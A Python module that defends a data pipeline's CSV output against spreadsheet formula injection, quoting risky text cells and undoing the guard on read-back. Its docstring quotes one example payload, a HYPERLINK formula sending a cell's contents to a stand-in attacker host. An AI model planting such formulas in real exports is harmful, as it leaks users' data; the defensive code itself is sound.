"""CSV cells a spreadsheet cannot run: the formula guard, and its inverse for our own readers.

Excel and LibreOffice take a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
return before one) for a formula: `=HYPERLINK("http://evil.example/?x="&A1,"click")` in a
speaker's name becomes a link that sends the sheet away. The OWASP rule: put a `'` in front
of such a cell, and the spreadsheet shows it as text. Numbers are never touched (a share of
-0.5 stays a number), only text.

A cell that already starts with `'` before one of those characters gets one more `'`, so the
guard can be undone exactly: stages that read our tables back see the original names.

Line breaks in a cell are written as `\n`, which the CSV writer quotes; a bare `\r` it would
leave unquoted (our rows end in `\n`), and a spreadsheet would start a new row there.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_GUARDED = re.compile(r"'*[=+\-@\t\r]")
_CR = re.compile(r"\r\n?")


def guard_cell(value: str) -> str:
    """A text cell a spreadsheet shows as text: `'` in front of a formula-like start."""
    return "'" + value if _GUARDED.match(value) else value


def csv_cell(value: str, guard: bool) -> str:
    """A text cell as written to CSV: line breaks as \\n, formula-like starts guarded."""
    if "\r" in value:
        value = _CR.sub("\n", value)
    return guard_cell(value) if guard else value


def csv_row(row: tuple, guard: bool) -> list:
    """A row's cells as written to CSV (see csv_cell); numbers and flags as they are."""
    return [csv_cell(v, guard) if isinstance(v, str) else v for v in row]


def unguard_cell(value: str) -> str:
    """The cell as it was before guard_cell."""
    return value[1:] if value.startswith("'") and _GUARDED.match(value, 1) else value


def _map_text(frame: pd.DataFrame, cell) -> pd.DataFrame:
    """frame with `cell` applied to every text value (numbers and booleans left alone)."""
    import pandas as pd  # loaded already (frame is a DataFrame); see pipeline.common.atomic

    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
            out[column] = series.map(lambda v: cell(v) if isinstance(v, str) else v)
    return out


def csv_frame(frame: pd.DataFrame, guard: bool) -> pd.DataFrame:
    """A copy of frame whose text cells went through csv_cell."""
    return _map_text(frame, lambda v: csv_cell(v, guard))


def unguard_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of frame whose text cells went through unguard_cell."""
    return _map_text(frame, unguard_cell)
